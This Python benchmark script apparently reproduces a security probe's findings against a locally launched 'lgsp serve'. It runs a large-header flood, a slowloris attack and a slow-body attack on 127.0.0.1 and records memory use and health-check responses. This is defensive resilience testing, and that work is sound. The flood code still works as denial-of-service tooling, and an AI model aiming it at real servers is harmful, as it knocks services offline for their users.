"""The probe's connection floods against a real `lgsp serve` (SECURITY-PROBE-2026-12 F4, F8).

    .venv/bin/python -m benchmarks.floods                  # both floods, default sizes
    .venv/bin/python -m benchmarks.floods --only headers --header-mib 400 --header-connections 3
    .venv/bin/python -m benchmarks.floods --only slowloris --slow-connections 1100 --nofile 1024

- headers (F4): N connections each stream `X-a: bbbb…\\r\\n` lines without the blank line that
  ends the block; prints the server's resident memory before, at its peak and after, and how
  many bytes each connection got in before the server closed it.
- slowloris (F8): N connections each send the start of a request and then one header byte every
  2 s; prints how many the server still holds over time and whether a normal `GET /healthz`
  is answered meanwhile (`--nofile` starts the server with that descriptor limit, as the probe's
  `ulimit -n 1024`).
- slowbody: the same with a whole head (`POST {base}/token`, a 1 MB form announced) and then
  one body byte every 2 s.
"""

from __future__ import annotations

import argparse
import asyncio
import resource
import socket
import tempfile
import threading
import time
from pathlib import Path

import httpx

from tests.fixtures.processes import free_port, start_lgsp, stop, wait_ready

LINE = b"X-a: " + b"b" * 65000 + b"\r\n"
HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def header_flood(port: int, pid: int, *, connections: int, mib: int) -> None:
    sent = [0] * connections
    peak = [rss_mb(pid)]
    before = peak[0]
    lines = mib * 1024 * 1024 // len(LINE)

    def one(index: int) -> None:
        with socket.create_connection(("127.0.0.1", port)) as sock:
            try:
                sock.sendall(HEAD)
                for _ in range(lines):
                    sock.sendall(LINE)
                    sent[index] += len(LINE)
            except OSError:
                return

    threads = [threading.Thread(target=one, args=(i,)) for i in range(connections)]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        peak[0] = max(peak[0], rss_mb(pid))
        time.sleep(0.05)
    elapsed = time.monotonic() - started
    time.sleep(1)
    print(
        f"header flood: {connections} × {mib} MiB offered in {elapsed:.1f} s; accepted per "
        f"connection {', '.join(f'{n / 1024:.0f} KiB' for n in sent)}; RSS before "
        f"{before:.0f} MB, peak {peak[0]:.0f} MB, after {rss_mb(pid):.0f} MB"
    )


async def healthz(base: str) -> str:
    started = time.monotonic()
    try:
        async with httpx.AsyncClient(timeout=5) as http:
            status = (await http.get(f"{base}/healthz")).status_code
        return f"{status} in {(time.monotonic() - started) * 1000:.0f} ms"
    except httpx.HTTPError as error:
        return f"{type(error).__name__} after {(time.monotonic() - started) * 1000:.0f} ms"


SLOW_HEAD = HEAD + b"X-Slow: "
SLOW_BODY = (
    b"POST /lgsp/kiengiang/token HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\n\r\ngrant_type="
)


async def slowloris(
    base: str, port: int, pid: int, *, connections: int, seconds: float, start: bytes = SLOW_HEAD
) -> None:
    open_socks: list[socket.socket] = []
    refused = 0
    for _ in range(connections):
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
            sock.sendall(start)
            sock.setblocking(False)
            open_socks.append(sock)
        except OSError:
            refused += 1
    kind = "slowloris" if start == SLOW_HEAD else "slow body"
    print(f"{kind}: {len(open_socks)} connections opened, {refused} refused at connect")
    started = time.monotonic()
    while True:
        elapsed = time.monotonic() - started
        alive = []
        for sock in open_socks:
            try:
                sock.send(b"a")
                alive.append(sock)
            except OSError:
                sock.close()
        open_socks = alive
        print(
            f"  t={elapsed:4.0f} s  still open {len(open_socks):5d}  server RSS "
            f"{rss_mb(pid):.0f} MB  GET /healthz: {await healthz(base)}"
        )
        if elapsed >= seconds:
            break
        await asyncio.sleep(2)
    for sock in open_socks:
        sock.close()


def limit_descriptors(pid: int, nofile: int) -> None:
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (nofile, nofile))


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", choices=["headers", "slowloris", "slowbody"], action="append")
    parser.add_argument("--header-connections", type=int, default=3)
    parser.add_argument("--header-mib", type=int, default=400)
    parser.add_argument("--slow-connections", type=int, default=1000)
    parser.add_argument("--slow-seconds", type=float, default=25)
    parser.add_argument("--nofile", type=int, help="the server's descriptor limit")
    args = parser.parse_args()
    only = set(args.only or ["headers", "slowloris", "slowbody"])
    resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[1:] * 2)
    with tempfile.TemporaryDirectory() as data_dir:
        port = free_port()
        base = f"http://127.0.0.1:{port}"
        process = start_lgsp(
            ["serve", "--port", str(port), "--data-dir", data_dir],
            env={"LGSP_POPULATION": "20"},
            log=Path(data_dir) / "bus.log",
        )
        try:
            if args.nofile:
                limit_descriptors(process.pid, args.nofile)
            await wait_ready(base, process)
            if "headers" in only:
                header_flood(
                    port, process.pid, connections=args.header_connections, mib=args.header_mib
                )
            # slowbody is slowloris that completes the head and trickles the body instead.
            for attack, start in (("slowloris", SLOW_HEAD), ("slowbody", SLOW_BODY)):
                if attack in only:
                    await slowloris(
                        base,
                        port,
                        process.pid,
                        connections=args.slow_connections,
                        seconds=args.slow_seconds,
                        start=start,
                    )
        finally:
            stop(process)


if __name__ == "__main__":
    asyncio.run(main())
